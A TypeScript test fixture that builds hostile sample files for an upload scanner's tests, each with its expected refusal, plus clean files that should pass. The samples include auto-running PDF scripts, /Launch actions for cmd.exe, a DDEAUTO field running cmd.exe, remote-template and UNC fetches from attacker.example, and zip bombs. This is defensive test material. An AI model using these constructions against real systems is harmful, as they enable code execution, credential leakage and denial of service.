import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import type { FileKind, FilePurpose } from '../../common/files.ts';
import {
  appendUpdate,
  buildPdf,
  cfb,
  deflatedZeros,
  documentObjects,
  docx,
  encodings,
  type PdfObject,
  png,
  type RawZipEntry,
  rawZip,
  relationshipTypes,
  scriptAction,
  storedEntry,
  strToU8,
  xlsx,
  zipSync,
} from './sample-files.ts';

/**
 * The hostile-file corpus (issues #9 and #23), every sample made in code (sample-files.ts), each
 * with its verdict: refused with the spec §5 message and nothing stored, or accepted. Used by
 * the scanner's unit tests, the files module's API tests and the ePublish document tests.
 */

export const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

/** A minimal one-page PDF with a cross-reference table; `catalog` goes into the catalogue. */
export function pdf(catalog = '', extra: PdfObject[] = []): Buffer {
  return buildPdf({ objects: documentObjects({ catalog, extra }) });
}

const harmfulPdf = 'validation.file.pdfScript';
const macro = 'validation.file.xlsMacro';
const wrongType = 'validation.file.type';
const archive = 'validation.file.archiveHarmful';
const details: Record<string, () => string> = {
  [harmfulPdf]: () => 'PDF contains potentially harmful script content.',
  [macro]: () => 'XLS file contains potentially harmful content.',
  [archive]: () => 'The archive contains potentially harmful content.',
};

export interface HostileFile {
  name: string;
  purpose: FilePurpose;
  filename: string;
  bytes: () => Uint8Array;
  message: string;
  detail: string;
  /** PDFs: whether pdf.js itself reports the harm (scripts, XFA, attachments), as the probe showed. */
  pdfJsSees?: boolean;
}

const refusedPdf = (name: string, bytes: () => Buffer, pdfJsSees: boolean): HostileFile => ({
  name,
  purpose: 'pdf',
  filename: 'notice.pdf',
  bytes,
  message: harmfulPdf,
  detail: details[harmfulPdf]!(),
  pdfJsSees,
});

/** The script action inside an object stream, opened with the document. */
const hiddenScript = (encoding: (typeof encodings)[keyof typeof encodings], eol?: string) => () =>
  buildPdf({
    objects: documentObjects({ catalog: '/OpenAction 6 0 R', extra: [scriptAction] }),
    objectStream: { members: [1, 6], encoding, ...(eol ? { eol } : {}) },
  });

const office = (
  name: string,
  bytes: () => Uint8Array,
  purpose: FilePurpose = 'tender-document',
  filename = 'boq.xlsx',
): HostileFile => ({ name, purpose, filename, bytes, message: macro, detail: details[macro]!() });

const refusedArchive = (name: string, bytes: () => Uint8Array): HostileFile => ({
  name,
  purpose: 'archive',
  filename: 'bids.zip',
  bytes,
  message: archive,
  detail: details[archive]!(),
});

/** A zip of `copies` entries each holding the same deflated 100 MB of zeros (1 GB for ten). */
function gigabyteZip(copies = 10): Buffer {
  const zeros = deflatedZeros(100);
  return rawZip(
    Array.from({ length: copies }, (_, i) => ({
      name: `part${i}.bin`,
      data: zeros.data,
      method: 8 as const,
      crc: zeros.crc,
      declaredSize: 100 * 1_048_576,
    })),
  );
}

/** The probe's zip: both headers declare 1,000 bytes for a deflate stream of 200 MB. */
export function lyingZipEntry(name: string): RawZipEntry {
  const zeros = deflatedZeros(200);
  return { name, data: zeros.data, method: 8, crc: zeros.crc, declaredSize: 1000 };
}

const vbaBytes = () => cfb(['Root Entry', 'VBA', '_VBA_PROJECT', 'dir', 'Module1']);
const oleBytes = () => cfb(['Root Entry', '\u0001Ole10Native', '\u0001CompObj']);

export const hostileFiles: HostileFile[] = [
  {
    name: 'a Windows executable renamed .pdf',
    purpose: 'pdf',
    filename: 'tender.pdf',
    bytes: () => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120)]),
    message: wrongType,
    detail: 'Upload a file, allowed extension: pdf',
  },
  // Issue #9: script markers in plain sight.
  refusedPdf(
    'a PDF with a /JavaScript names tree',
    () => pdf('/Names << /JavaScript 6 0 R >>', ['<< /Names [(a) 7 0 R] >>', scriptAction]),
    true,
  ),
  refusedPdf(
    'a PDF with catalogue /AA /JS',
    () => pdf('/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
    true,
  ),
  refusedPdf(
    'a PDF whose /OpenAction launches a program',
    () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    false,
  ),
  refusedPdf('a PDF whose /OpenAction runs a script', () => pdf('/OpenAction 6 0 R', [scriptAction]), true),
  refusedPdf(
    'a PDF with an /EmbeddedFiles names tree',
    () =>
      pdf('/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>', [
        '<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>',
        { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ\x90\x00') },
      ]),
    true,
  ),
  refusedPdf(
    'a PDF with a #-escaped /JavaScript name',
    () => pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
    true,
  ),
  refusedPdf('a script inside a deflated object stream', hiddenScript(encodings.flate), true),
  // Issue #23 finding 1: the six variants the probe published, and XFA.
  refusedPdf('a script in an object stream with /ASCIIHexDecode', hiddenScript(encodings.asciiHex), true),
  refusedPdf('a script in an object stream with /ASCII85Decode', hiddenScript(encodings.ascii85), true),
  refusedPdf(
    'a script in an object stream with [/ASCIIHexDecode /FlateDecode]',
    hiddenScript(encodings.hexThenFlate),
    true,
  ),
  refusedPdf(
    'a script in an object stream whose zlib header is 0x58',
    hiddenScript(encodings.flateSmallWindow),
    true,
  ),
  refusedPdf(
    'a script in a Flate object stream after `stream` and CR alone',
    hiddenScript(encodings.flate, '\r'),
    true,
  ),
  refusedPdf(
    'a script action written /JavaScript\\0/JS\\0(…)',
    () => pdf('/OpenAction << /S /JavaScript\0/JS\0(app.alert\\(1\\)) >>'),
    true,
  ),
  refusedPdf(
    'a PDF with an XFA form and a <script>',
    () =>
      pdf('/AcroForm << /Fields [] /XFA 6 0 R >>', [
        {
          dict: '',
          data: Buffer.from(
            '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
          ),
        },
      ]),
    true,
  ),
  // Further hiding places a reader honours.
  refusedPdf('a script in a RunLength object stream', hiddenScript(encodings.runLength), true),
  refusedPdf(
    'a script in a Flate object stream with the PNG predictor',
    hiddenScript(encodings.flatePng),
    true,
  ),
  ...(['rc4-128', 'aes-128', 'aes-256'] as const).map((encrypt) =>
    refusedPdf(
      `a script in an object stream encrypted with ${encrypt} (no password)`,
      () =>
        buildPdf({
          objects: documentObjects({ catalog: '/OpenAction 6 0 R', extra: [scriptAction] }),
          objectStream: { members: [1, 6], encoding: encodings.flate },
          encrypt,
        }),
      true,
    ),
  ),
  refusedPdf(
    'a script added by an incremental update',
    () =>
      appendUpdate(
        buildPdf({ objects: documentObjects() }),
        { 6: '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>', 7: scriptAction },
        6,
      ),
    true,
  ),
  refusedPdf(
    'a page that runs a script when opened',
    () => buildPdf({ objects: documentObjects({ pageExtra: '/AA << /O 6 0 R >>', extra: [scriptAction] }) }),
    true,
  ),
  refusedPdf(
    'a hidden link annotation that runs a script',
    () =>
      buildPdf({
        objects: documentObjects({
          pageExtra: '/Annots [6 0 R]',
          extra: ['<< /Type /Annot /Subtype /Link /F 2 /Rect [0 0 10 10] /A 7 0 R >>', scriptAction],
        }),
      }),
    false, // pdf.js runs no link scripts, so it reports none; Acrobat runs them
  ),
  refusedPdf(
    'a link annotation that launches a program',
    () =>
      buildPdf({
        objects: documentObjects({
          pageExtra: '/Annots [6 0 R]',
          extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (calc.exe) >> >>'],
        }),
      }),
    false,
  ),
  refusedPdf(
    'a form field that runs a script on focus',
    () =>
      buildPdf({
        objects: documentObjects({
          catalog: '/AcroForm << /Fields [6 0 R] >>',
          pageExtra: '/Annots [6 0 R]',
          extra: [
            '<< /Type /Annot /Subtype /Widget /FT /Tx /T (bid) /Rect [72 500 300 520] /P 3 0 R /AA << /Fo 7 0 R >> >>',
            scriptAction,
          ],
        }),
      }),
    true,
  ),
  refusedPdf(
    'a file attachment annotation',
    () =>
      buildPdf({
        objects: documentObjects({
          pageExtra: '/Annots [6 0 R]',
          extra: [
            '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>',
            '<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>',
            { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ\x90\x00') },
          ],
        }),
      }),
    true,
  ),
  refusedPdf(
    'a rich media (Flash) annotation',
    () =>
      buildPdf({
        objects: documentObjects({
          pageExtra: '/Annots [6 0 R]',
          extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent << >> >>'],
        }),
      }),
    true,
  ),
  refusedPdf(
    'an object stream that inflates past 64 MB (a decompression bomb)',
    () =>
      buildPdf({
        objects: documentObjects({ extra: [`<< /Padding (${'x'.repeat(16)}) >>`] }),
        objectStream: {
          members: [6],
          encoding: {
            filter: '/Filter /FlateDecode',
            encode: (plain) =>
              deflateSync(Buffer.concat([plain, Buffer.alloc(65 * 1_048_576, 0x20)]), { level: 1 }),
          },
        },
      }),
    false,
  ),
  {
    name: 'a PDF followed by a zip (polyglot)',
    purpose: 'pdf',
    filename: 'notice.pdf',
    bytes: () => Buffer.concat([pdf(), zipSync({ 'run.html': strToU8('<script>alert(1)</script>') })]),
    message: wrongType,
    detail: 'Upload a file, allowed extension: pdf',
  },
  {
    name: 'a PDF followed by HTML after %%EOF',
    purpose: 'pdf',
    filename: 'notice.pdf',
    bytes: () =>
      buildPdf({ objects: documentObjects(), tail: Buffer.from('<html><script>alert(1)</script></html>') }),
    message: wrongType,
    detail: 'Upload a file, allowed extension: pdf',
  },
  {
    name: 'a PDF header over bytes no reader can open',
    purpose: 'pdf',
    filename: 'notice.pdf',
    bytes: () => Buffer.from('%PDF-1.7\n\x00\x01\x02 garbage, not a document\n%%EOF\n', 'latin1'),
    message: wrongType,
    detail: 'Upload a file, allowed extension: pdf',
  },
  {
    name: 'a PDF that needs a password to open',
    purpose: 'pdf',
    filename: 'notice.pdf',
    bytes: () => buildPdf({ objects: documentObjects(), encrypt: 'aes-256', userPassword: 'secret' }),
    message: wrongType,
    detail: 'Upload a file, allowed extension: pdf',
  },
  // Office: issue #9, and issue #23 finding 7 (names and declared sizes were trusted).
  office('an .xlsm (vbaProject.bin) uploaded as .xlsx', () =>
    xlsx({
      parts: { 'xl/vbaProject.bin': vbaBytes() },
      overrides: { '/xl/vbaProject.bin': 'application/vnd.ms-office.vbaProject' },
      relationships: [{ id: 'rId9', type: relationshipTypes.vbaProject, target: 'vbaProject.bin' }],
    }),
  ),
  office('a VBA project renamed xl/media/image1.png (its content type still says vbaProject)', () =>
    xlsx({
      parts: { 'xl/media/image1.png': vbaBytes() },
      overrides: { '/xl/media/image1.png': 'application/vnd.ms-office.vbaProject' },
    }),
  ),
  office('a VBA project reached by its relationship, declared image/png', () =>
    xlsx({
      parts: { 'xl/media/image1.png': vbaBytes() },
      relationships: [{ id: 'rId9', type: relationshipTypes.vbaProject, target: 'media/image1.png' }],
    }),
  ),
  office('an Excel 4.0 macro sheet at xl/worksheets/sheet2.xml', () =>
    xlsx({
      parts: {
        'xl/worksheets/sheet2.xml': strToU8(
          '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
        ),
      },
      overrides: { '/xl/worksheets/sheet2.xml': 'application/vnd.ms-excel.macrosheet+xml' },
      relationships: [{ id: 'rId9', type: relationshipTypes.xlMacrosheet, target: 'worksheets/sheet2.xml' }],
    }),
  ),
  office('a workbook declared macro-enabled', () =>
    xlsx({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
  ),
  office('an OLE object embedded in a workbook', () =>
    xlsx({
      parts: { 'xl/embeddings/oleObject1.bin': oleBytes() },
      overrides: {
        '/xl/embeddings/oleObject1.bin': 'application/vnd.openxmlformats-officedocument.oleObject',
      },
      relationships: [{ id: 'rId9', type: relationshipTypes.oleObject, target: 'embeddings/oleObject1.bin' }],
    }),
  ),
  office('a workbook linked to another workbook (external link)', () =>
    xlsx({
      parts: {
        'xl/externalLinks/externalLink1.xml': strToU8(
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
      },
      overrides: {
        '/xl/externalLinks/externalLink1.xml':
          'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
      },
      relationships: [
        { id: 'rId9', type: relationshipTypes.externalLink, target: 'externalLinks/externalLink1.xml' },
      ],
    }),
  ),
  office('a workbook whose image is fetched from a UNC path when opened', () =>
    xlsx({
      relationships: [
        {
          id: 'rId9',
          type: relationshipTypes.image,
          target: '\\\\attacker.example\\share\\a.png',
          external: true,
        },
      ],
    }),
  ),
  office('a workbook hyperlink to a file: URL', () =>
    xlsx({
      relationships: [
        {
          id: 'rId9',
          type: relationshipTypes.hyperlink,
          target: 'file:///C:/Windows/System32/calc.exe',
          external: true,
        },
      ],
    }),
  ),
  office(
    'a Word document with an attached remote template',
    () =>
      docx({
        relParts: {
          'word/_rels/settings.xml.rels': [
            {
              id: 'rId1',
              type: relationshipTypes.attachedTemplate,
              target: 'http://attacker.example/t.dotm',
              external: true,
            },
          ],
        },
      }),
    'document',
    'notice.docx',
  ),
  office(
    'a Word document with an ActiveX control',
    () =>
      docx({
        parts: {
          'word/activeX/activeX1.xml': strToU8(
            '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
          ),
        },
        overrides: { '/word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml' },
        relationships: [{ id: 'rId9', type: relationshipTypes.control, target: 'activeX/activeX1.xml' }],
      }),
    'document',
    'notice.docx',
  ),
  office(
    'a Word document with a DDEAUTO field split over runs',
    () =>
      docx({
        body:
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>' +
          '<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      }),
    'document',
    'notice.docx',
  ),
  office(
    'a Word document declared macro-enabled',
    () => docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'document',
    'notice.docx',
  ),
  office(
    'an .xls with a _VBA_PROJECT storage',
    () => cfb(['Root Entry', 'Workbook', '_VBA_PROJECT_CUR', '_VBA_PROJECT']),
    'tender-document',
    'boq.xls',
  ),
  office('a zip bomb dressed as a workbook (30 MB of zeros in a few KB)', () =>
    xlsx({ parts: { 'xl/worksheets/sheet1.xml': new Uint8Array(30 * 1_048_576) } }),
  ),
  office('a workbook part whose headers declare 1,000 bytes for 200 MB', () =>
    rawZip([
      ...entriesOf(xlsx()).filter((e) => e.name !== 'xl/worksheets/sheet1.xml'),
      lyingZipEntry('xl/worksheets/sheet1.xml'),
    ]),
  ),
  // Archives.
  refusedArchive('a zip bomb as an archive', () =>
    zipSync({ 'a.txt': new Uint8Array(30 * 1_048_576) }, { level: 9 }),
  ),
  refusedArchive('an archive whose headers declare 1,000 bytes for 200 MB', () =>
    rawZip([lyingZipEntry('tender.pdf')]),
  ),
  refusedArchive('a three-level nested archive of 1 GB', () =>
    rawZip([storedEntry('level2.zip', rawZip([storedEntry('level3.zip', gigabyteZip())]))]),
  ),
  refusedArchive('an archive whose entries overlap (one entry inside another)', () => {
    // Entry a.txt stores a copy of b.txt's whole local record; the directory then points b.txt
    // into a.txt's data. Every header agrees; only the byte ranges give it away (the trick
    // behind overlapping-file zip bombs).
    const b = storedEntry('b.txt', Buffer.from('payload'));
    const bRecord = rawZip([b]).subarray(0, 30 + 'b.txt'.length + 'payload'.length);
    const zip = rawZip([storedEntry('a.txt', bRecord), b]);
    const cd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    zip.writeUInt32LE(30 + 'a.txt'.length, cd + 42);
    return zip;
  }),
  // Issue #9 others.
  {
    name: 'a grievance PDF over 2 MB',
    purpose: 'grievance-evidence',
    filename: 'evidence.pdf',
    bytes: () =>
      buildPdf({ objects: documentObjects({ extra: [`<< /Padding (${'x'.repeat(2 * 1_048_576)}) >>`] }) }),
    message: 'validation.file.size',
    detail: 'File size should be less than 2 MB',
  },
  {
    name: 'an empty file',
    purpose: 'pdf',
    filename: 'empty.pdf',
    bytes: () => new Uint8Array(0),
    message: wrongType,
    detail: 'Upload a file, allowed extension: pdf',
  },
  {
    name: 'a PDF where only JSON is allowed (bidder registers)',
    purpose: 'bidder-register',
    filename: 'bidders.json',
    bytes: () => pdf(),
    message: wrongType,
    detail: 'Upload a file, allowed extension: json',
  },
];

/** A package's parts as stored entries (to rebuild it around a lying entry). */
function entriesOf(zip: Uint8Array): RawZipEntry[] {
  return Object.entries(unzipSync(zip)).map(([name, content]) => storedEntry(name, content));
}

/** Files that must pass, in the shapes real writers produce. */
export const cleanFiles: {
  name: string;
  purpose: FilePurpose;
  filename: string;
  bytes: () => Uint8Array;
  kind: FileKind;
}[] = [
  {
    name: 'a PDF that opens at a page view (/OpenAction without script) with a web link',
    purpose: 'pdf',
    filename: 'notice.pdf',
    bytes: () =>
      buildPdf({
        objects: documentObjects({
          catalog: '/OpenAction [3 0 R /Fit]',
          pageExtra: '/Annots [6 0 R]',
          extra: [
            '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://assamtenders.gov.in/) >> >>',
          ],
        }),
      }),
    kind: 'pdf',
  },
  {
    name: 'a PDF with an incremental update (a signed or amended notice)',
    purpose: 'pdf',
    filename: 'amended.pdf',
    bytes: () =>
      appendUpdate(
        buildPdf({ objects: documentObjects() }),
        { 6: '<< /Type /Catalog /Pages 2 0 R /PageMode /UseNone >>' },
        6,
      ),
    kind: 'pdf',
  },
  {
    name: 'a PDF 1.5 with object streams and a cross-reference stream',
    purpose: 'tender-document',
    filename: 'nit.pdf',
    bytes: () =>
      buildPdf({
        objects: documentObjects(),
        objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate },
      }),
    kind: 'pdf',
  },
  {
    name: 'a linearized PDF (fast web view)',
    purpose: 'pdf',
    filename: 'web.pdf',
    bytes: () => buildPdf({ objects: documentObjects(), linearized: true }),
    kind: 'pdf',
  },
  {
    name: 'a PDF encrypted for permissions only (opens without a password)',
    purpose: 'pdf',
    filename: 'protected.pdf',
    bytes: () =>
      buildPdf({
        objects: documentObjects(),
        objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate },
        encrypt: 'aes-128',
      }),
    kind: 'pdf',
  },
  {
    name: 'a PDF with an image',
    purpose: 'pdf',
    filename: 'drawing.pdf',
    bytes: () =>
      buildPdf({
        objects: documentObjects({
          pageExtra: '/XObject << /Im1 6 0 R >>',
          extra: [
            {
              dict: '/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
              data: deflateSync(Buffer.from([0, 255, 255, 0])),
            },
          ],
        }),
      }),
    kind: 'pdf',
  },
  {
    name: 'a workbook with an image and a web hyperlink',
    purpose: 'tender-document',
    filename: 'boq.xlsx',
    bytes: () =>
      xlsx({
        parts: { 'xl/media/image1.png': png },
        relationships: [
          { id: 'rId8', type: relationshipTypes.image, target: 'media/image1.png' },
          {
            id: 'rId9',
            type: relationshipTypes.hyperlink,
            target: 'https://assamtenders.gov.in/?a=1&b=2',
            external: true,
          },
        ],
      }),
    kind: 'xlsx',
  },
  {
    name: 'a Word document with a web hyperlink',
    purpose: 'document',
    filename: 'notice.docx',
    bytes: () =>
      docx({
        relationships: [
          {
            id: 'rId9',
            type: relationshipTypes.hyperlink,
            target: 'mailto:tenders@assam.gov.in',
            external: true,
          },
        ],
      }),
    kind: 'docx',
  },
  {
    name: 'an .xls workbook',
    purpose: 'document',
    filename: 'old.xls',
    bytes: () => cfb(['Root Entry', 'Workbook']),
    kind: 'xls',
  },
  {
    name: 'an archive of PDFs holding one archive',
    purpose: 'archive',
    filename: 'bids.zip',
    bytes: () => zipSync({ 'cover.pdf': pdf(), 'annexures.zip': zipSync({ 'a.pdf': pdf() }) }),
    kind: 'zip',
  },
];
